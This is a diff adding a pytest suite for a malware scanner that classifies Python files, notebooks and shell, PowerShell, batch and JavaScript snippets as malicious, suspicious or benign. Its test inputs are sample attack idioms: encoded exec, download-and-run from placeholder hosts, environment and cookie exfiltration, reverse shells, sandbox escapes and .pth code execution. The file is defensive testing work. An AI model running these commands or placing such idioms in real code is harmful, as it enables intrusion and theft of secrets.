@@ -1,0 +1,168 @@
+"""Ways to hide from whoever reads Python, scripts, notebooks and bytecode. All payloads are harmless."""
+
+import json
+import time
+
+import pytest
+
+from ringfence.artifacts.judging import judge, judging_budget
+from ringfence.artifacts.reader import Reader
+from ringfence.core.verdicts import Verdict
+
+
+def verdict(data: str | bytes, name: str = "modeling_acme.py") -> Verdict:
+    whole = data.encode() if isinstance(data, str) else data
+    return judge(Reader.of_bytes(whole, budget=judging_budget()), name=name).judgement.verdict
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "exec(__import__('base64').b64decode('cGFzcw=='))",
+        "import zlib, base64\np = base64.b64decode('eJwrSCwuBgAEKAGm')\nexec(zlib.decompress(p))",
+        "import codecs\nexec(codecs.decode('cnff', 'rot13'))",
+        "import marshal\nexec(marshal.loads(b'x'))",
+        "import requests\nexec(requests.get('https://code.example').text)",
+        "import urllib.request as u\nwith u.urlopen('https://code.example') as r:\n    s = r.read()\neval(s)",
+        "def f():\n    import base64\n    return base64.b64decode('cGFzcw==')\nexec(f())",
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')",
+        "getattr(__import__(''.join(map(chr, [111, 115]))), 'metsys'[::-1])('true')",
+        "import builtins\ngetattr(builtins, bytes.fromhex('65786563').decode())('pass')",
+        (
+            "import os, json, urllib.request\n"
+            "urllib.request.urlopen('https://c.example', data=json.dumps(dict(os.environ)).encode())"
+        ),
+        "import os\nos.system('curl https://c.example/x | sh')",
+        "import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
+    ],
+)
+def test_hidden_code_that_runs_on_import_is_malicious(source: str) -> None:
+    assert verdict(source) == Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import sys\nsys.modules['os'].system('true')",
+        "__import__('os').__dict__['system']('true')",
+        "import torch\ntorch.os.system('true')",
+        "import os\nd = {'a': os.system}\nd['a']('true')",
+        "import os\nfor c in (os.system,):\n    c('true')",
+        "import os\nf = os.system\ndef g(a):\n    a('true')\ng(f)",
+        "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()",
+        "list(map(exec, ['pass']))",
+        "@exec\n@input\nclass X: pass",
+        "import os\nclass A:\n    __class_getitem__ = os.system\nA['true']",
+        "class E:\n    def __init_subclass__(cls):\n        __import__('os').system('true')",
+        "def __getattr__(name):\n    import os\n    os.system('true')",
+        "eval(compile(\"import os\\nos.system('true')\", '', 'exec'))",
+        "exec(\"exec('import os; os.system(1)')\")",
+        "(lambda: __import__('os').system('true'))()",
+        "import ctypes\nctypes.CDLL(None).system(b'true')",
+        "[c for c in ().__class__.__base__.__subclasses__()][0].__init__.__globals__['system']('true')",
+        "open(__import__('os').path.expanduser('~/.bashrc'), 'a').write('x')",
+        "import pickle, base64\npickle.loads(base64.b64decode('gASVLg=='))",
+        "x = 1;" + " " * 300 + "import os",
+        "# coding: utf-7\nprint(1)",
+        "# coding: unicode_escape\nprint(1)",
+        "if True:\n    import subprocess\n    try:\n        subprocess.run('true')\n    except OSError: pass",
+    ],
+)
+def test_detours_to_a_command_are_suspicious_at_least(source: str) -> None:
+    assert verdict(source) >= Verdict.SUSPICIOUS
+
+
+def test_encoded_code_is_malicious_in_a_function_that_nobody_calls_too() -> None:
+    assert verdict("import base64\n\ndef f(x):\n    exec(base64.b64decode(x))\n") == Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        b'a="' + b"A" * 900_000 + b'"\n' + b"".join(b'b%d=a+"x"\n' % i for i in range(5_000)),
+        b"x" + b".a()" * 5_000,
+        b"x = " + b"+".join([b"chr(1)"] * 50_000) + b"\n",
+        b"-" * 200_000 + b"1",
+        b"(" * 300 + b")" * 300,
+        b"x = " + b"lambda: " * 3_000 + b"1",
+        b"x = 1\0",
+        b"\xff\xfe",
+    ],
+)
+def test_code_made_to_be_too_much_is_inconclusive(source: bytes) -> None:
+    started = time.process_time()
+    assert verdict(source) == Verdict.INCONCLUSIVE
+    assert time.process_time() - started < 20
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        b"from builtins import getattr as g, vars as g\nfrom functools import partial as g\n"
+        + b"g(" * 90
+        + b"os"
+        + b",'x')" * 90,
+        b"def f(): f()\n" * 3_000 + b"f()\n",
+        b"".join(b"x%d = x%d\n" % (i, i - 1) for i in range(1, 5_000)),
+    ],
+)
+def test_names_that_lead_in_circles_end(source: bytes) -> None:
+    started = time.process_time()
+    assert verdict(source) == Verdict.UNKNOWN
+    assert time.process_time() - started < 20
+
+
+def test_a_notebook_hides_nothing_in_its_cells() -> None:
+    cells = [
+        {"cell_type": "code", "source": ["import base64\n", "%time x = 1\n", "!ls\n"]},
+        {"cell_type": "code", "source": "this is no Python"},
+        {"cell_type": "code", "source": ["exec(base64.b64decode('cGFzcw=='))"]},
+    ]
+    assert verdict(json.dumps({"cells": cells, "nbformat": 4}), "try.ipynb") == Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "line", ["!curl -s https://c.example/x | sh", "%%bash\ncurl https://c.example/x | bash"]
+)
+def test_a_notebook_that_fetches_and_runs_is_suspicious(line: str) -> None:
+    notebook = {"cells": [{"cell_type": "code", "source": line}], "nbformat": 4}
+    assert verdict(json.dumps(notebook), "try.ipynb") == Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.sh", "wget -qO- https://c.example/x | sudo bash"),
+        ("a.sh", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"),
+        ("a.sh", "echo cHdk | base64 -d | sh"),
+        ("a.sh", "bash <(curl -s https://c.example/x)"),
+        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://c.example')"),
+        ("a.bat", "powershell -w hidden -enc AAAA"),
+        ("a.bat", "certutil -urlcache -f https://c.example/x x.exe"),
+        ("a.js", "eval(atob('MQ=='))"),
+        ("a.js", "new Function(atob('MQ=='))()"),
+        ("a.js", "fetch('https://c.example/?' + document.cookie)"),
+        ("a.vbs", 'Set s = CreateObject("WScript.Shell")'),
+    ],
+)
+def test_scripts_that_only_attacks_have_are_suspicious(name: str, text: str) -> None:
+    assert verdict(text, name) == Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.sh", "#!/bin/bash\nset -e\nwget -O model.bin https://m.example/model.bin && python convert.py\n"),
+        ("a.sh", "pip install -r requirements.txt\nchmod +x run.sh\n./run.sh\n"),
+        ("a.bat", "@echo off\npython run.py\n"),
+        ("a.js", "const p = require('child_process');\n"),
+        ("kernel.cu", "__global__ void f() {}\n"),
+    ],
+)
+def test_everyday_scripts_are_unknown(name: str, text: str) -> None:
+    assert verdict(text, name) == Verdict.UNKNOWN
+
+
+@pytest.mark.parametrize("start", ["import ", "import\t"])
+def test_a_path_file_that_runs_code_is_malicious(start: str) -> None:
+    assert verdict(f"../lib\n{start}os; os.getcwd()\n", "x.pth") == Verdict.MALICIOUS
